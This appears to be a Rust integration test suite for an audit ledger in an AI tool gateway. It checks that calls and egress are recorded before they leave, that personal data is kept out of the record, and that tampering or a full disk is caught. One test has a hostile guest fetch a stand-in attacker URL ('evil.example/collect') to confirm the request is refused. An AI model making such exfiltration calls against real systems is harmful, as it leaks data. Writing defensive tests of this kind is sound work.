//! Nothing leaves unrecorded: the intent is on disk before a request goes, the outcome before the answer does. Where
//! that cannot be, nothing goes.

use std::fs;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use nexus::wire::mock::Misbehaviour;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use crate::support::record::record;
use crate::support::upstream::Upstream;
use crate::support::{Nexus, Ran, eventually, guest, shards};

fn lines_of<'a>(lines: &'a [Value], kind: &str) -> Vec<&'a Value> {
    lines.iter().filter(|line| line["kind"] == kind).collect()
}

fn kinds(nexus: &Nexus) -> Vec<String> {
    let told = |line: &Value| {
        let phase = line["phase"].as_str().map(|phase| format!(" {phase}")).unwrap_or_default();
        format!("{}{phase}", line["kind"].as_str().unwrap())
    };
    nexus.ledger().iter().map(told).collect()
}

#[track_caller]
fn verify(nexus: &Nexus) -> Value {
    let ran = nexus.run(&["audit", "verify", "--json"]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    serde_json::from_str(&ran.stdout).unwrap()
}

#[test]
fn a_call_and_what_it_sends_have_two_lines_each_between_a_start_and_a_stop() {
    let upstream = Upstream::new();
    let nexus = upstream.nexus();
    nexus.call("entra_list_users", json!({ "limit": 5 })).data();
    assert_eq!(
        kinds(&nexus),
        [
            "start",
            "admin",
            "call asked",
            "egress asked",
            "token asked",
            "token ended",
            "egress ended",
            "call ended",
            "stop"
        ]
    );
    let lines = nexus.ledger();
    let call = lines_of(&lines, "call");
    assert_eq!(call[0]["tool"], "entra_list_users");
    assert_eq!(call[0]["shard"], "identity");
    assert_eq!(call[0]["action_category"], "READ");
    assert_eq!(call[0]["mock_mode"], false);
    assert_eq!(call[0]["principal"], "local-user");
    assert_eq!(call[0]["args_summary"], "limit=5");
    assert!(call[0]["component_digest"].as_str().unwrap().starts_with("sha256:"));
    assert_eq!((&call[1]["rows"], &call[1]["status"]), (&json!(5), &json!("success")));
    let egress = lines_of(&lines, "egress");
    let to = json!({
        "scheme": "https", "host": "graph.microsoft.com", "port": 443, "method": "GET", "template": "/v1.0/users",
    });
    assert_eq!((&egress[0]["destination"], &egress[0]["credential"]), (&to, &json!("graph")));
    assert_eq!(egress[1]["upstream_status"], 200);
    let token = lines_of(&lines, "token");
    assert_eq!(token[0]["destination"]["host"], "login.microsoftonline.com");
    assert_eq!(token[0]["credential"], "graph");
    for line in egress.iter().chain(&token) {
        assert_eq!(line["parent_id"], call[0]["event_id"]);
    }
    for (at, line) in lines.iter().enumerate() {
        assert_eq!(line["seq"], at + 1);
        assert_eq!(line["schema_version"], "2");
    }
    // One more signs these.
    let verified = verify(&nexus);
    assert_eq!((&verified["lines"], &verified["signed_lines"]), (&json!(lines.len() + 1), &json!(lines.len())));
}

#[test]
fn neither_persons_nor_query_strings_are_on_record() {
    let nexus = Nexus::identity();
    nexus.call("entra_get_user", json!({ "user_id_or_upn": "alice.johnson@nexus.corp" })).data();
    let text = fs::read_to_string(nexus.ledger_file()).unwrap().to_lowercase();
    for absent in ["alice", "johnson", "$select", "?"] {
        assert!(!text.contains(absent), "{absent}: {text}");
    }
    let lines = nexus.ledger();
    let asked = lines_of(&lines, "call")[0];
    let pseudonym = asked["subjects"][0].as_str().unwrap();
    assert_eq!(asked["args_summary"], format!("user_id_or_upn={pseudonym}"));
}

#[test]
fn what_was_refused_is_on_record_as_well() {
    let nexus = Nexus::identity().with_guest("hostile");
    let server = nexus.serve();
    let client = server.client();
    client.rpc("tools/call", json!({ "name": "entra_delete_user", "arguments": { "id": "alice" } }));
    client.rpc("tools/call", json!({ "name": "no tool's name, said Alice", "arguments": {} }));
    client.call("entra_list_users", json!({ "limit": "all" }));
    client.call("hostile_fetch", crate::support::get("https://evil.example/collect?what=alice"));
    client.call("hostile_fetch", crate::support::get("not a url"));
    client.call("hostile_trap", json!({}));
    drop(server);
    let told = record(&nexus);
    assert_eq!(
        told,
        [
            "call refused unknown-tool",
            "call refused unknown-tool",
            "call refused invalid-arguments",
            "egress refused not-granted",
            "call success",
            "egress refused malformed",
            "call success",
            "call error trap",
        ]
    );
    let lines = nexus.ledger();
    let call = lines_of(&lines, "call");
    assert_eq!((&call[0]["tool"], call[1].get("tool")), (&json!("entra_delete_user"), None));
    let egress = lines_of(&lines, "egress");
    assert_eq!(egress[0]["destination"]["host"], "evil.example");
    let text = fs::read_to_string(nexus.ledger_file()).unwrap().to_lowercase();
    assert!(!text.contains("alice"), "{text}");
    // Words of its path are in the lines that would allow it, and nowhere else.
    let suggestion = egress[1]["suggestion"].as_str().unwrap();
    assert!(suggestion.contains("paths = [\"/collect\"]") && text.matches("collect").count() == 1, "{text}");
}

#[test]
fn a_cancelled_call_is_on_record() {
    let nexus = Nexus::new().with_shard_as(&guest("hostile"), "hostile", |manifest| {
        manifest.replace("deadline = \"2s\"", "deadline = \"60s\"").replace("cpu = \"1s\"", "cpu = \"60s\"")
    });
    let mut client = nexus.stdio();
    let call = crate::support::mcp::request(7, "tools/call", json!({ "name": "hostile_loop", "arguments": {} }));
    client.write(&call.to_string());
    eventually("the call", || kinds(&nexus).contains(&"call asked".to_owned()));
    let cancel = json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": { "requestId": 7 } });
    client.write(&cancel.to_string());
    let start = Instant::now();
    eventually("its end", || kinds(&nexus).contains(&"call ended".to_owned()));
    assert!(start.elapsed() < Duration::from_secs(30), "it was not the cancellation that ended it");
    assert_eq!(client.close(), Some(0));
    assert_eq!(record(&nexus), ["call error cancelled"]);
}

#[test]
fn a_stop_by_signal_is_on_record() {
    let nexus = Nexus::identity();
    let server = nexus.serve();
    server.client().call("entra_list_users", json!({ "limit": 1 }));
    assert_eq!(server.stop(), (Some(0), String::new()));
    assert_eq!(kinds(&nexus).last().unwrap(), "stop");
    verify(&nexus);
}

/// Was once left open when the process was faster than the call.
#[test]
fn a_stop_comes_after_the_endings_of_what_was_under_way() {
    let nexus = || {
        Nexus::new().with_shard_as(&guest("hostile"), "hostile", |manifest| {
            manifest.replace("deadline = \"2s\"", "deadline = \"120s\"").replace("cpu = \"1s\"", "cpu = \"120s\"")
        })
    };
    let call = |id| crate::support::mcp::request(id, "tools/call", json!({ "name": "hostile_loop", "arguments": {} }));
    let check = |nexus: &Nexus| {
        let told = record(nexus);
        assert_eq!(told.len(), 3, "{told:?}");
        assert!(
            told.iter().all(|told| ["call error cancelled", "call abandoned"].contains(&told.as_str())),
            "{told:?}"
        );
        assert_eq!(kinds(nexus).last().unwrap(), "stop");
    };
    let under_way = |nexus: &Nexus| kinds(nexus).iter().filter(|kind| *kind == "call asked").count();

    let over_stdio = nexus();
    let mut client = over_stdio.stdio();
    for id in 1..=3 {
        client.write(&call(id).to_string());
    }
    eventually("the calls", || under_way(&over_stdio) == 3);
    client.go();
    assert_eq!(client.wait(), Some(7), "calls were cut off");
    check(&over_stdio);

    let over_http = nexus();
    let server = over_http.serve();
    let url = server.url.clone();
    let clients: Vec<_> = (1..=3)
        .map(|id| {
            let (client, call) = (crate::support::mcp::Http::new(&url), call(id));
            // There may be no answer, nor a connection to give it on.
            std::thread::spawn(move || drop(client.try_send(&call)))
        })
        .collect();
    eventually("the calls", || under_way(&over_http) == 3);
    let start = Instant::now();
    assert_eq!(server.stop(), (Some(7), String::new()));
    assert!(start.elapsed() < Duration::from_secs(60), "it waited for guests that never end");
    clients.into_iter().for_each(|client| client.join().unwrap());
    check(&over_http);
}

/// What a call does when the ledger is this file: it does not start, says so, and has sent nothing.
#[track_caller]
fn refuses_to_start(upstream: &Upstream, nexus: &Nexus) {
    let ran = nexus.run(&["call", "entra_list_users", "--json"]);
    assert_eq!(ran.code, Some(4), "{ran:#?}");
    assert!(ran.stderr.contains("ledger"), "{ran:#?}");
    assert_eq!(ran.stdout, "");
    let ran = Ran::of(nexus.command(&["serve", "--bind", "127.0.0.1:0"]).stdin(Stdio::null()).output().unwrap());
    assert_eq!(ran.code, Some(4), "{ran:#?}");
    assert_eq!((upstream.tokens(), upstream.users()), (0, 0));
}

#[test]
fn without_a_ledger_nothing_runs() {
    let upstream = Upstream::new();
    let nexus = upstream.nexus();
    fs::write(nexus.path("a-file"), "").unwrap();
    fs::create_dir(nexus.path("a-folder")).unwrap();
    fs::write(nexus.path("not-a-ledger"), "dear diary\n").unwrap();
    fs::write(nexus.path("json"), "{\"some\":\"json\"}\n").unwrap();
    let mut nexus = nexus;
    for ledger in
        ["a-file/ledger.jsonl", "a-folder", "/dev/full", "/dev/null", "/proc/ledger.jsonl", "not-a-ledger", "json"]
    {
        nexus = nexus.set("ledger", ledger);
        refuses_to_start(&upstream, &nexus);
    }
    assert_eq!(fs::read_to_string(nexus.path("not-a-ledger")).unwrap(), "dear diary\n");
}

#[test]
fn the_ledger_cannot_be_switched_off() {
    let upstream = Upstream::new();
    for (key, value) in [("ledger", toml::Value::from(false)), ("audit", toml::Value::from(false))] {
        let ran = upstream.nexus().set(key, value).run(&["call", "entra_list_users"]);
        assert_eq!(ran.code, Some(3), "{ran:#?}");
    }
    for variable in ["AUDIT_LOG_DISABLED", "DISABLE_AUDIT", "AUDIT_ENABLED", "NEXUS_LEDGER"] {
        let nexus = upstream.nexus().env(variable, "false");
        nexus.call("entra_list_users", json!({ "limit": 1 })).data();
        assert_eq!(kinds(&nexus).len(), 9);
    }
}

/// How large a file may grow in these tests. WebAssembly memories are files too, to the kernel, so it cannot be small.
const FULL: usize = 4 << 20;

/// A disk that is full: the process cannot make any file longer than `FULL`.
fn with_full_disk(nexus: &Nexus, args: &[&str]) -> Command {
    let inner = nexus.command(args);
    let mut command = Command::new("/bin/bash");
    // Beyond the limit a write gets an error and no signal.
    command.arg("-c").arg(format!("trap '' XFSZ; ulimit -f {}; exec \"$0\" \"$@\"", FULL / 1024));
    command.arg(inner.get_program()).args(inner.get_args());
    command.env_clear().current_dir(nexus.dir.path());
    command.envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?))));
    command
}

/// A ledger with a past so long that only `room` bytes fit after it.
fn with_room(nexus: &Nexus, room: usize) {
    let mut text = String::new();
    let mut prev = "0".repeat(64);
    let lines = FULL / (512 << 10);
    for seq in 1..=lines {
        let line = |padding: usize| format!(r#"{{"seq":{seq},"padding":"{}","prev":"{prev}"}}"#, "x".repeat(padding));
        let length = if seq == lines { FULL - room - text.len() } else { 512 << 10 };
        let line = line(length - line(0).len() - 1);
        prev = hex::encode(Sha256::new().chain_update([0]).chain_update(&line).finalize());
        text += &line;
        text.push('\n');
    }
    assert_eq!(text.len(), FULL - room);
    fs::write(nexus.ledger_file(), text).unwrap();
    // It is another ledger than the one that was signed before.
    drop(fs::remove_file(nexus.path("ledger.jsonl.checkpoint")));
}

fn asked(nexus: &Nexus, kind: &str) -> u64 {
    nexus.ledger().iter().filter(|line| line["kind"] == kind && line["phase"] == "asked").count() as u64
}

#[test]
fn a_full_disk_refuses_before_anything_leaves_and_withholds_what_came() {
    let upstream = Upstream::new();
    upstream.nexus().run(&["shards"]); // Compiled components are cached before the disk is full.
    let (mut none, mut unasked, mut refused, mut withheld, mut answered) = (0, 0, 0, 0, 0);
    for room in (0..6400).step_by(200) {
        let nexus = upstream.nexus();
        with_room(&nexus, room);
        let before = (upstream.tokens(), upstream.users());
        let arguments = ["call", "entra_list_users", "--json", "--args", "{\"limit\": 1}"];
        let ran = Ran::of(with_full_disk(&nexus, &arguments).output().unwrap());
        let answer: Value = serde_json::from_str(&ran.stdout).unwrap_or(Value::Null);
        let sent = (upstream.tokens() - before.0, upstream.users() - before.1);
        verify(&nexus);
        // A request whose line did not last has not left.
        assert!(sent.0 <= asked(&nexus, "token") && sent.1 <= asked(&nexus, "egress"), "{sent:?}: {ran:#?}");
        match (ran.code, answer["error"]["code"].as_str()) {
            (Some(0), None) => answered += 1,
            (Some(4), None) => none += 1,
            (Some(1), Some("unrecorded")) if sent == (0, 0) && asked(&nexus, "call") == 0 => unasked += 1,
            (Some(1), Some("refused" | "unrecorded")) if sent.1 == 0 => refused += 1,
            (Some(1), Some("refused" | "unrecorded")) => withheld += 1,
            _ => panic!("{room}: {ran:#?}"),
        }
        if ran.code != Some(0) {
            assert_eq!(answer.get("data"), None, "{room}: {ran:#?}");
        }
    }
    // Each of them was met, so the steps were small enough.
    for (times, what) in [
        (none, "not started"),
        (unasked, "not called"),
        (refused, "not sent"),
        (withheld, "withheld"),
        (answered, "answered"),
    ] {
        assert!(times > 0, "no call was {what}");
    }
}

#[test]
fn a_disk_that_fills_up_while_serving_ends_all_calls_and_sends_nothing_more() {
    let upstream = Upstream::new();
    let nexus = upstream.nexus();
    nexus.run(&["shards"]);
    with_room(&nexus, 16 << 10);
    let mut client = crate::support::mcp::Stdio::start(with_full_disk(&nexus, &["serve", "--stdio"]));
    let mut codes = Vec::new();
    for id in 1..40 {
        let answer = client.rpc(id, "tools/call", json!({ "name": "entra_list_users", "arguments": { "limit": 1 } }));
        let result = &answer["result"];
        let code = result["_meta"]["nexus/error"].as_str().unwrap_or("ok").to_owned();
        assert_eq!(code == "ok", result["structuredContent"].is_object(), "{answer:#}");
        codes.push(code);
    }
    assert_eq!((codes[0].as_str(), codes[38].as_str()), ("ok", "unrecorded"), "{codes:?}");
    client.close();
    assert!(upstream.users() <= asked(&nexus, "egress"), "{codes:?}");
    assert!(upstream.users() < 20, "{codes:?}");
    verify(&nexus);
}

#[test]
fn a_ledger_that_is_taken_away_stops_all_calls() {
    for meddle in [
        (|nexus: &Nexus| fs::remove_file(nexus.ledger_file()).unwrap()) as fn(&Nexus),
        |nexus| fs::rename(nexus.ledger_file(), nexus.path("elsewhere")).unwrap(),
        |nexus| fs::write(nexus.ledger_file(), "").unwrap(),
        |nexus| {
            let text = fs::read(nexus.ledger_file()).unwrap();
            fs::write(nexus.ledger_file(), [&text[..], b"{}\n"].concat()).unwrap();
        },
    ] {
        let upstream = Upstream::new();
        let nexus = upstream.nexus();
        let server = nexus.serve();
        let client = server.client();
        assert_eq!(client.call("entra_list_users", json!({ "limit": 1 }))["isError"], false);
        meddle(&nexus);
        for _ in 0..2 {
            let result = client.call("entra_list_users", json!({ "limit": 1 }));
            assert_eq!(result["_meta"]["nexus/error"], "unrecorded", "{result:#}");
        }
        assert_eq!(upstream.users(), 1);
    }
}

#[test]
fn a_killed_server_leaves_its_entries_open_and_the_next_goes_on() {
    let upstream = Upstream::new();
    upstream.fault("graph/users", 1, Misbehaviour::Stall);
    let nexus = upstream.nexus();
    let server = nexus.serve();
    let client = server.client();
    let call = std::thread::spawn(move || {
        let request =
            crate::support::mcp::request(1, "tools/call", json!({ "name": "entra_list_users", "arguments": {} }));
        assert!(client.try_send(&request).is_err(), "the connection breaks");
    });
    eventually("the request", || upstream.users() == 1);
    server.kill();
    call.join().unwrap();

    let open = nexus.run(&["audit", "tail", "--open", "--json"]);
    assert_eq!(open.code, Some(0), "{open:#?}");
    let open: Vec<Value> = open.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let kinds_open: Vec<_> = open.iter().map(|line| line["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds_open, ["call", "egress"], "{open:#?}");
    assert_eq!(open[1]["parent_id"], open[0]["event_id"]);
    verify(&nexus);

    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    verify(&nexus);
    // Nothing is invented about what was under way.
    let still = nexus.run(&["audit", "tail", "--open", "--json"]);
    assert_eq!(still.stdout.lines().count(), 2, "{still:#?}");
    let told = nexus.run(&["audit", "tail", "--open"]);
    assert!(told.stdout.contains("entra_list_users") && told.stdout.contains("graph.microsoft.com"), "{told:#?}");
}

#[test]
fn a_torn_last_line_is_put_aside_and_told() {
    let nexus = Nexus::identity();
    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    let whole = fs::read(nexus.ledger_file()).unwrap();
    let torn = br#"{"seq":7,"event_id":"0197"#;
    fs::write(nexus.ledger_file(), [&whole[..], torn].concat()).unwrap();

    let tail = nexus.run(&["audit", "verify", "--json"]);
    assert_eq!(tail.code, Some(0), "{tail:#?}");
    assert!(tail.stdout.contains(&format!("\"torn_bytes\":{}", torn.len())), "{tail:#?}");
    assert_eq!(fs::read(nexus.ledger_file()).unwrap().len(), whole.len() + torn.len(), "a reader changed it");

    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    let now = fs::read(nexus.ledger_file()).unwrap();
    assert_eq!(now[..whole.len()], whole[..]);
    let lines = nexus.ledger();
    let admin: Vec<_> = lines.iter().filter(|line| line["code"] == "torn-tail-quarantined").collect();
    assert_eq!(admin.len(), 1);
    assert_eq!((&admin[0]["code"], &admin[0]["bytes"]), (&json!("torn-tail-quarantined"), &json!(torn.len())));
    let aside = fs::read_dir(nexus.dir.path()).unwrap().map(|entry| entry.unwrap().path());
    let aside = aside.filter(|path| path.to_string_lossy().contains(".torn-")).collect::<Vec<_>>();
    assert_eq!(aside.len(), 1);
    assert_eq!(fs::read(&aside[0]).unwrap(), torn);
    verify(&nexus);
}

#[test]
fn a_ledger_has_one_writer() {
    let upstream = Upstream::new();
    let nexus = upstream.nexus();
    let server = nexus.serve();
    let before = fs::read(nexus.ledger_file()).unwrap();
    refuses_to_start(&upstream, &nexus);
    // Nor by another name.
    std::os::unix::fs::symlink(nexus.ledger_file(), nexus.path("link.jsonl")).unwrap();
    let ran = nexus.run(&["--ledger", "link.jsonl", "call", "entra_list_users"]);
    assert_eq!(ran.code, Some(4), "{ran:#?}");
    assert_eq!(fs::read(nexus.ledger_file()).unwrap(), before);
    // A reader is no writer.
    assert_eq!(nexus.run(&["audit", "tail"]).code, Some(0));
    drop(server);
    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
}

#[test]
fn an_edited_line_is_found() {
    let nexus = Nexus::identity();
    for _ in 0..2 {
        nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    }
    let whole = fs::read_to_string(nexus.ledger_file()).unwrap();
    let lines: Vec<&str> = whole.lines().collect();
    let joined = |lines: &[&str]| lines.iter().map(|line| format!("{line}\n")).collect::<String>();
    let swapped = {
        let mut lines = lines.clone();
        lines.swap(2, 3);
        lines
    };
    for (what, edited, line) in [
        ("a value", whole.replacen("limit=1", "limit=9", 1), 4),
        ("a blank", whole.replacen("\"kind\":\"call\"", "\"kind\": \"call\"", 1), 4),
        ("a line out", joined(&[&lines[..2], &lines[3..]].concat()), 3),
        ("a line twice", joined(&[&lines[..3], &lines[2..]].concat()), 4),
        ("two lines swapped", joined(&swapped), 3),
        ("the beginning cut off", joined(&lines[1..]), 1),
        ("no line at all", whole.replacen(lines[2], "hello", 1), 3),
    ] {
        assert_ne!(edited, whole, "{what}");
        fs::write(nexus.ledger_file(), &edited).unwrap();
        let ran = nexus.run(&["audit", "verify", "--json"]);
        assert_eq!(ran.code, Some(6), "{what}: {ran:#?}");
        let told: Value = serde_json::from_str(&ran.stdout).unwrap();
        assert_eq!((&told["whole"], &told["line"]), (&json!(false), &json!(line)), "{what}: {told}");
    }
    fs::write(nexus.ledger_file(), &whole).unwrap();
    verify(&nexus);
}

#[test]
fn a_ledger_is_private_to_its_owner() {
    use std::os::unix::fs::PermissionsExt;

    let nexus = Nexus::identity().set("ledger", "new/folder/ledger.jsonl");
    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    let mode = |name: &str| fs::metadata(nexus.path(name)).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode("new/folder/ledger.jsonl"), 0o600);
    assert_eq!(mode("new/folder"), 0o700);
}

#[test]
fn a_tail_shows_as_many_lines_as_asked_and_no_endless_ones() {
    let nexus = Nexus::new().with_shard(&shards().join("identity"));
    nexus.call("entra_list_users", json!({ "limit": 1 })).data();
    for (n, code, shown) in [("1", 0, 1), ("3", 0, 3), ("500", 0, 8), ("0", 2, 0), ("-1", 2, 0), ("501", 2, 0)] {
        let ran = nexus.run(&["audit", "tail", "--json", "-n", n]);
        assert_eq!((ran.code, ran.stdout.lines().count()), (Some(code), shown), "{n}: {ran:#?}");
    }
}
